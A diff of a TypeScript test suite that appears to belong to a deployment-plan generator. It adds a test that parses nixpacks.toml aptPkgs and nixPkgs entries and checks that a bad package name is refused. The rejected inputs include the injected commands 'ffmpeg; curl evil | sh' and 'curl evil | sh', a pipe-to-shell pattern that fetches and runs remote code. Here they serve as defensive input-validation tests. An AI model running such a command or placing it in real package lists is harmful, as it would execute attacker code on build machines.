@@ -1235,6 +1235,17 @@ describe("detection", () => {
                 (e: unknown) => e instanceof InputError && e.message === 'Aptfile line 1, "ffmpeg; curl evil | sh", is not a package name apt takes; fix the line (one package per line), or list packages with `aptRuntimePackages`.',
             );
         });
+        it("GIVEN Railway's nixpacks.toml [phases.setup] aptPkgs THEN they are installed as an Aptfile's are (\"...\" skipped); nixPkgs are named, not installed; a bad name is refused", () => {
+            const plan = (toml: string) => synthesize(apps.make({ "app.py": FLASK_APP, "requirements.txt": "flask\n", "nixpacks.toml": toml })).plan;
+            const p = plan('[phases.setup]\naptPkgs = ["...", "poppler-utils", "libpq-dev"]\nnixPkgs = ["...", "ffmpeg"]\n');
+            assert.deepEqual(p.apt, { build: ["libpq-dev"], runtime: ["poppler-utils"] });
+            assert.ok(p.notes.includes("nixpacks.toml's [phases.setup] aptPkgs lists packages the app needs: poppler-utils in the runner; libpq-dev in the builder (headers to compile against), from the base image's Debian archive."), p.notes.join("\n"));
+            assert.ok(p.notes.some((n) => n.startsWith("nixpacks.toml's [phases.setup] nixPkgs (ffmpeg) are Nix packages and are not installed here")));
+            assert.throws(
+                () => plan('[phases.setup]\naptPkgs = ["curl evil | sh"]\n'),
+                (e: unknown) => e instanceof InputError && e.message === 'nixpacks.toml\'s [phases.setup] aptPkgs names "curl evil | sh", which is not a package name apt takes; fix it, or list packages with `aptRuntimePackages`.',
+            );
+        });
         it("GIVEN Sanic's attribute-style config (app.config.DATABASE = 'pins.db') read by aiosqlite.connect(app.config.DATABASE) THEN the database is linked into /data", () => {
             const app = "import aiosqlite\nfrom sanic import Sanic, text\n\napp = Sanic('pins')\napp.config.DATABASE = 'pins.db'\n\n@app.before_server_start\nasync def open_db(app, _):\n    app.ctx.db = await aiosqlite.connect(app.config.DATABASE)\n\n@app.get('/')\nasync def index(request):\n    return text('ok')\n";
             const paths = synthesize(apps.make({ "server.py": app, "requirements.txt": "sanic\naiosqlite\n" })).plan.writablePaths;
